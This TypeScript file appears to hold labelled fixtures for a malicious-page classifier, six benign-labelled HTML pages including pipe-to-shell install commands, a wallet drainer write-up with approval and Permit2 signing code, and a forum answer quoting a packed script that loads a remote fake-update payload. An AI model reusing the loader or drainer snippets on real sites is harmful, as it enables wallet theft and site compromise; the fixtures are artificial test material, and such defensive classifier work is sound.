import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-clean-docs-uv-install-powershell',
  label: 'clean',
  kind: 'docs-scary-code',
  url: 'https://docs.astral.sh/uv/getting-started/installation/',
  body: doc({
    title: 'Installation | uv',
    body: `<header><b>uv</b><nav><a href="/uv/">Introduction</a><a href="/uv/getting-started/">Getting started</a><a href="/uv/guides/">Guides</a><a href="/uv/reference/">Reference</a><a href="https://github.com/astral-sh/uv">GitHub</a></nav></header><main>
<h1>Installing uv</h1><h2>Installation methods</h2><p>Install uv with our standalone installers or your package manager of choice.</p>
<h3>Standalone installer</h3><p>uv provides a standalone installer to download and install uv:</p><p><b>macOS and Linux</b></p><pre><code>curl -LsSf https://astral.sh/uv/install.sh | sh</code></pre>
<p><b>Windows</b> — Use <code>irm</code> to download the script and execute it with <code>iex</code>:</p><pre><code>powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"</code></pre>
<p>Changing the execution policy allows running a script from the internet. Request a specific version by including it in the URL:</p><pre><code>powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/0.5.4/install.ps1 | iex"</code></pre>
<div class="card" style="max-width:none"><b>Tip:</b> The installation script may be inspected before use: <pre><code>powershell -c "irm https://astral.sh/uv/install.ps1 | more"</code></pre></div>
<h3>PyPI</h3><pre><code>pipx install uv</code></pre><h3>WinGet</h3><pre><code>winget install --id=astral-sh.uv  -e</code></pre>
<h2>Uninstallation</h2><pre><code>uv cache clean
rm -r "$(uv python dir)"
rm $HOME\\.local\\bin\\uv.exe</code></pre></main>
<footer>Copyright © 2025 Astral Software Inc. · Made with Material for MkDocs</footer>`,
  }),
},
{
  id: 'zf-clean-writeup-drainer-permit-analysis',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://blog.chainwatch-labs.com/posts/anatomy-of-a-wallet-drainer-kit',
  body: doc({
    title: 'Anatomy of a wallet drainer kit: Permit2, Seaport and setApprovalForAll | ChainWatch Labs',
    body: `<header><b>ChainWatch Labs</b><nav><a href="#">Research</a><a href="#">Alerts</a><a href="#">Tools</a></nav></header><main>
<h1>Anatomy of a wallet drainer kit</h1><p class="muted">October 30, 2025 · Smart contract security</p>
<p>Drainer-as-a-service kits are sold on Telegram with an 80/20 revenue split. We obtained a copy of one kit and walked through how it empties a victim wallet once they click "Connect".</p>
<h2>1. Fingerprinting the wallet</h2><pre><code>const [account] = await ethereum.request({ method: 'eth_requestAccounts' });
const balance = await ethereum.request({ method: 'eth_getBalance', params: [account, 'latest'] });</code></pre>
<h2>2. Requesting unlimited approvals</h2><p>For each ERC-20 with a balance, the kit asks for <code>approve(spender, 2**256-1)</code>; the calldata begins with the selector <code>0x095ea7b3</code>. For NFTs it calls <code>setApprovalForAll(operator, true)</code> (selector <code>0xa22cb465</code>).</p>
<h2>3. Off-chain signatures</h2><p>Most dangerous are gasless signatures: a Permit2 <code>PermitBatch</code> or a Seaport order signed with <code>eth_signTypedData_v4</code> whose consideration sends everything to the attacker for 0 ETH.</p>
<pre><code>await ethereum.request({
  method: 'eth_signTypedData_v4',
  params: [account, JSON.stringify({ primaryType: 'PermitBatch', domain: { name: 'Permit2', chainId: 1, verifyingContract: '0x000000000022D473030F116dDEE9F6B43aC78BA3' }, message })]
});</code></pre>
<h2>How to protect yourself</h2><ul><li>Read what you sign; wallets now decode Permit2 and Seaport.</li><li>Revoke stale approvals regularly.</li><li>Never enter your seed phrase on any website.</li></ul></main>
<footer>© ChainWatch Labs</footer>`,
  }),
},
{
  id: 'zf-clean-help-bbva-phishing-es',
  label: 'clean',
  kind: 'help-article',
  url: 'https://www.bbva.es/general/seguridad/como-detectar-phishing.html',
  body: doc({
    lang: 'es',
    title: 'Cómo detectar el phishing y protegerte | BBVA',
    body: `<header><b style="color:#004481">BBVA</b><nav><a href="#">Particulares</a><a href="#">Empresas</a><a href="#">Seguridad</a><a href="#">Acceso clientes</a></nav></header><main>
<h1>Cómo detectar el phishing y protegerte</h1><p>El phishing es una técnica de fraude en la que los ciberdelincuentes se hacen pasar por tu banco para robarte las claves de acceso, el código de las tarjetas o los códigos SMS de confirmación.</p>
<h2>Señales de alerta</h2><ul><li>Mensajes urgentes: «Hemos detectado un cargo no reconocido», «Su cuenta será bloqueada».</li><li>Enlaces a direcciones que no son <b>bbva.es</b>, por ejemplo <i>bbva-clientes-seguridad.es.aviso-online.com</i>.</li><li>Formularios que piden tu contraseña completa, la clave de firma o el código SMS.</li></ul>
<h2>Recuerda</h2><p>BBVA nunca te pedirá por correo, SMS o teléfono tus claves de acceso ni códigos de operaciones. Si has introducido tus datos en una web sospechosa, llama inmediatamente al 91 224 94 26 o bloquea tus tarjetas desde la app.</p>
<p><a class="btn" href="#">Informar de un fraude</a></p></main>
<footer>© Banco Bilbao Vizcaya Argentaria, S.A. · <a href="#">Aviso legal</a><a href="#">Cookies</a></footer>`,
  }),
},
{
  id: 'zf-clean-phishing-simulation-landing',
  label: 'clean',
  kind: 'help-article',
  url: 'https://training.awareguard.com/landing/oops?c=hr-salary-q4&u=8812',
  body: doc({
    title: 'This was a phishing simulation',
    css: baseCss + `body{background:#fff7ed}.c{max-width:680px;margin:6vh auto;background:#fff;border-radius:12px;padding:36px;box-shadow:0 4px 18px rgba(0,0,0,.08)}`,
    body: `<div class="c"><h1>🎣 Oops! This was a simulated phishing email.</h1><p>Don't worry – no data was collected and nothing bad happened. Your security team at <b>Meridian Foods</b> sends these exercises to help everyone spot real attacks.</p>
<h3>What gave it away?</h3><ul><li>The sender address was <code>hr-payroll@meridianfoods-hr.com</code> – not our real domain.</li><li>The message created urgency: "Review your salary adjustment before Friday".</li><li>The link pointed to a login page that was not our Microsoft 365 sign-in.</li></ul>
<p>Take the 3-minute micro-training to complete this exercise:</p><a class="btn" href="/landing/module?c=hr-salary-q4&amp;u=8812">Start training</a><p class="muted">Questions? Contact security@meridianfoods.com. Simulation provided by AwareGuard.</p></div>`,
  }),
},
{
  id: 'zf-clean-qa-deobfuscate-eval-atob',
  label: 'clean',
  kind: 'docs-scary-code',
  url: 'https://devanswers.net/questions/48812/found-obfuscated-script-in-my-wordpress-footer-is-this-malware',
  body: doc({
    title: 'Found obfuscated script in my WordPress footer – is this malware? - DevAnswers',
    body: `<header><b>DevAnswers</b><nav><a href="#">Questions</a><a href="#">Tags</a><a href="#">Users</a></nav></header><main>
<h1>Found obfuscated script in my WordPress footer – is this malware?</h1><p class="muted">Asked 3 days ago · Viewed 1k times · <a href="#">wordpress</a> <a href="#">javascript</a> <a href="#">security</a></p>
<p>I found this at the bottom of footer.php on my client's site. Some visitors report a "Chrome update required" page. What does it do?</p>
<pre><code>&lt;script&gt;eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'var|s|document|createElement|script|src|https|cdn|statsforwp|update|js|head|appendChild'.split('|'),0,{}))&lt;/script&gt;</code></pre>
<h2>1 Answer</h2><div class="card" style="max-width:none"><p><b>Accepted.</b> Yes, that's a classic Dean Edwards packer wrapper. Unpacked it's just:</p><pre><code>var s = document.createElement('script');
s.src = 'https://cdn.statsforwp.../update.js';
document.head.appendChild(s);</code></pre><p>It loads a fake-browser-update (SocGholish-style) overlay. Remove it, rotate all WordPress and hosting passwords, check <code>wp_options</code> for injected scripts and update every plugin. Then request a review in Search Console.</p><p class="muted">answered by <b>m_kowalski</b> · 12.4k</p></div></main>
<footer>DevAnswers · content licensed CC BY-SA</footer>`,
  }),
},
{
  id: 'zf-clean-docs-clipboard-api',
  label: 'clean',
  kind: 'docs-scary-code',
  url: 'https://webdev-reference.org/en-US/docs/Web/API/Clipboard/writeText',
  body: doc({
    title: 'Clipboard: writeText() method - Web API reference',
    body: `<header><b>WebDev Reference</b><nav><a href="#">References</a><a href="#">Guides</a><a href="#">Playground</a></nav></header><main>
<h1>Clipboard: writeText() method</h1><p>The <code>writeText()</code> method of the Clipboard interface writes the specified text to the system clipboard, returning a Promise that is resolved once the system clipboard has been updated.</p>
<h2>Syntax</h2><pre><code>writeText(newClipText)</code></pre>
<h2>Security considerations</h2><p>Writing to the clipboard is possible in a secure context after transient user activation. Pages have abused this to place commands in the clipboard and persuade visitors to paste them into a terminal ("ClickFix"). Browsers may surface a notification in future versions.</p>
<h2>Examples</h2><pre><code>async function copyInstallCommand() {
  const cmd = 'npm install --save-dev typescript';
  try {
    await navigator.clipboard.writeText(cmd);
    console.log('Copied to clipboard');
  } catch (err) {
    console.error('Failed to copy: ', err);
  }
}</code></pre>
<p>Try it: <button class="btn" id="try">Copy example</button> <span id="out" class="muted"></span></p>
<h2>Browser compatibility</h2><table border="1" cellpadding="5"><tr><th>Chrome</th><th>Edge</th><th>Firefox</th><th>Safari</th></tr><tr><td>66</td><td>79</td><td>63</td><td>13.1</td></tr></table></main>
<footer>Content available under CC-BY-SA 2.5 · <a href="#">Report a problem</a></footer>
<script>document.getElementById('try').onclick=function(){navigator.clipboard.writeText('npm install --save-dev typescript').then(function(){document.getElementById('out').textContent='Copied!'})}</script>`,
  }),
},
];
